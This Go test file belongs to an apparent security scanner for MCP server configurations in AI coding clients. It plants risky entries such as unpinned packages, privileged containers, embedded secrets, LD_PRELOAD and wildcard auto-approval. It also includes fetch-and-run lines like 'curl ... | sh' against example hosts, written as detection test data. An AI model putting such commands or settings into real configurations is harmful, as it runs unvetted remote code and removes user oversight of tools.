package scan_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/pelletier/go-toml/v2"

	"doorward/internal/clients"
	"doorward/internal/scan"
)

// planted are servers with one fault each, and what is found; honest ones have
// nothing to find.
func planted() map[string]struct {
	entry map[string]any
	rules []string
} {
	type server = struct {
		entry map[string]any
		rules []string
	}
	command := func(words ...string) map[string]any {
		args := []any{}
		for _, w := range words[1:] {
			args = append(args, w)
		}
		return map[string]any{"command": words[0], "args": args}
	}
	with := func(m map[string]any, name, value string) map[string]any {
		m["env"] = map[string]any{name: value}
		return m
	}
	return map[string]server{
		"unpinned-npx":    {command("npx", "-y", "@example/server"), []string{"config.unpinned"}},
		"unpinned-uvx":    {command("uvx", "mcp-server-time"), []string{"config.unpinned"}},
		"unpinned-docker": {command("docker", "run", "-i", "--rm", "mcp/time:latest"), []string{"config.unpinned"}},
		"piped":           {command("sh", "-c", "curl -s https://example.com/i.sh | sh"), []string{"config.danger", "config.download", "config.unpinned"}},
		"privileged":      {command("docker", "run", "-i", "--privileged", "mcp/time@sha256:"+strings.Repeat("a", 64)), []string{"config.privileged"}},
		"sudo":            {command("sudo", "/usr/local/bin/server"), []string{"config.privileged"}},
		"key-in-words":    {command("/usr/local/bin/server", "--api-key=abcdefgh12345678"), []string{"config.secret_in_command"}},
		"plain-secret":    {with(command("/usr/local/bin/server"), "GITHUB_TOKEN", "made-up-value"), []string{"config.secret"}},
		"preloaded":       {with(command("/usr/local/bin/server"), "LD_PRELOAD", "/tmp/x.so"), []string{"config.steered"}},
		"honest-local":    {with(command("/usr/local/bin/server", "--root", "/srv/docs"), "LOG_LEVEL", "info"), nil},
		"honest-npx":      {command("npx", "-y", "@example/server@1.2.3", "/srv/docs"), nil},
		"honest-uvx":      {command("uvx", "mcp-server-time==2025.7.1"), nil},
		"honest-docker":   {command("docker", "run", "-i", "--rm", "mcp/time@sha256:"+strings.Repeat("b", 64)), nil},
		"honest-variable": {with(command("/usr/local/bin/server"), "API_TOKEN", "${API_TOKEN}"), nil},
	}
}

// write puts servers below the keys of a place, as the client's files have them.
func write(t *testing.T, p clients.Place, servers map[string]any, mode os.FileMode) {
	t.Helper()
	var tree any = servers
	for _, key := range slices.Backward(p.Root) {
		tree = map[string]any{key: tree}
	}
	raw, err := json.MarshalIndent(tree, "", "  ")
	if filepath.Ext(p.Path) == ".toml" {
		raw, err = toml.Marshal(tree)
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(p.Path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p.Path, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p.Path, mode); err != nil {
		t.Fatal(err)
	}
}

func machine(t *testing.T) clients.Env {
	t.Helper()
	return clients.Env{GOOS: "linux", Home: t.TempDir(), Project: t.TempDir()}
}

// Every client's file is found, every planted fault in it, at its line, and
// nothing of what is honest.
func TestPlantedFaultsOfEveryClient(t *testing.T) {
	for _, c := range clients.Table() {
		t.Run(c.Name, func(t *testing.T) {
			env := machine(t)
			place := c.Places(env)[0]
			servers, want := map[string]any{}, map[string][]string{}
			for name, s := range planted() {
				servers[name] = s.entry
				if s.rules != nil {
					want[name] = s.rules
				}
			}
			write(t, place, servers, 0o600)
			seen, files, notes, err := clients.Look(env)
			if err != nil || len(notes) > 0 || !slices.Equal(files, []string{place.Path}) {
				t.Fatalf("looked at %v, %v, %v", files, notes, err)
			}
			var r scan.Report
			r.Setup(seen)
			got := map[string][]string{}
			raw, err := os.ReadFile(place.Path)
			if err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(string(raw), "\n")
			for _, f := range r.Findings {
				got[f.Server] = append(got[f.Server], f.Rule)
				near := strings.Join(lines[max(0, f.Line-2):f.Line], "\n")
				if !strings.Contains(near, f.Server) {
					t.Errorf("%s: line %d is %q", f.Server, f.Line, near)
				}
			}
			for name := range maps.Keys(got) {
				slices.Sort(got[name])
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("(-planted +found):\n%s", diff)
			}
			if len(r.Servers) != len(servers) {
				t.Errorf("%d servers of %d", len(r.Servers), len(servers))
			}
		})
	}
}

func found(r *scan.Report) []string {
	var got []string
	for _, f := range r.Findings {
		got = append(got, fmt.Sprintf("%s %s", f.Rule, f.Server))
	}
	slices.Sort(got)
	return got
}

func TestURLsAndFiles(t *testing.T) {
	env := machine(t)
	cursor, err := clients.Find("cursor")
	if err != nil {
		t.Fatal(err)
	}
	place := cursor.Places(env)[0]
	write(t, place, map[string]any{
		"plain":  map[string]any{"url": "http://mcp.example.com/mcp"},
		"key":    map[string]any{"url": "https://mcp.example.com/mcp?api_key=x"},
		"bearer": map[string]any{"url": "https://mcp.example.com/mcp", "headers": map[string]any{"Authorization": "Bearer made-up"}},
		"auto":   map[string]any{"url": "https://mcp.example.com/mcp", "autoApprove": []any{"*"}},
		"good":   map[string]any{"url": "https://mcp.example.com/mcp", "headers": map[string]any{"Authorization": "Bearer ${env:TOKEN}"}},
		"local":  map[string]any{"url": "http://127.0.0.1:9000/mcp"},
		"broken": "what",
	}, 0o646)
	seen, _, _, err := clients.Look(env, place.Path)
	if err != nil {
		t.Fatal(err)
	}
	var r scan.Report
	r.Setup(seen)
	want := []string{
		"config.auto_approve auto", "config.http plain", "config.readable ", "config.secret bearer",
		"config.unreadable broken", "config.url_secret key", "config.writable ",
	}
	if diff := cmp.Diff(want, found(&r)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, s := range r.Servers {
		if strings.Contains(s.URL, "api_key") {
			t.Errorf("the report repeats %s", s.URL)
		}
	}
}

func TestTwoClientsWithOneName(t *testing.T) {
	env := machine(t)
	for name, word := range map[string]string{"cursor": "/usr/bin/a", "windsurf": "/usr/bin/b"} {
		c, err := clients.Find(name)
		if err != nil {
			t.Fatal(err)
		}
		write(t, c.Places(env)[0], map[string]any{"files": map[string]any{"command": word}}, 0o600)
	}
	seen, files, _, err := clients.Look(env)
	if err != nil || len(files) != 2 {
		t.Fatalf("%v, %v", files, err)
	}
	var r scan.Report
	r.Setup(seen)
	if diff := cmp.Diff([]string{"config.twice files"}, found(&r)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestFilesThatCannotBeRead(t *testing.T) {
	env := machine(t)
	c, err := clients.Find("cursor")
	if err != nil {
		t.Fatal(err)
	}
	path := c.Places(env)[0].Path
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(`{"mcpServers": {`), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, notes, err := clients.Look(env); err != nil || len(notes) != 1 {
		t.Errorf("notes %v, %v", notes, err)
	}
	if _, _, _, err := clients.Look(env, path); err == nil {
		t.Error("a named file that cannot be read is no error")
	}
	if _, _, _, err := clients.Look(env, filepath.Join(env.Home, "none.json")); err == nil {
		t.Error("a named file that is not there is no error")
	}
}

// What a baseline knows is one command: another one behind the same name and fault
// is another finding (CVE-2025-54136).
func TestAnotherCommandIsAnotherFinding(t *testing.T) {
	prints := map[string]bool{}
	for _, url := range []string{"http://a.example/x", "http://b.example/x"} {
		env := machine(t)
		c, err := clients.Find("cursor")
		if err != nil {
			t.Fatal(err)
		}
		write(t, c.Places(env)[0], map[string]any{"c": map[string]any{"command": "bash", "args": []any{"-c", "curl " + url + " | sh"}}}, 0o600)
		seen, _, _, err := clients.Look(env)
		if err != nil {
			t.Fatal(err)
		}
		var r scan.Report
		r.Setup(seen)
		for _, f := range r.Findings {
			if prints[f.Print] {
				t.Errorf("%s of %s has the fingerprint of another command", f.Rule, url)
			}
		}
		for _, f := range r.Findings {
			prints[f.Print] = true
		}
	}
}
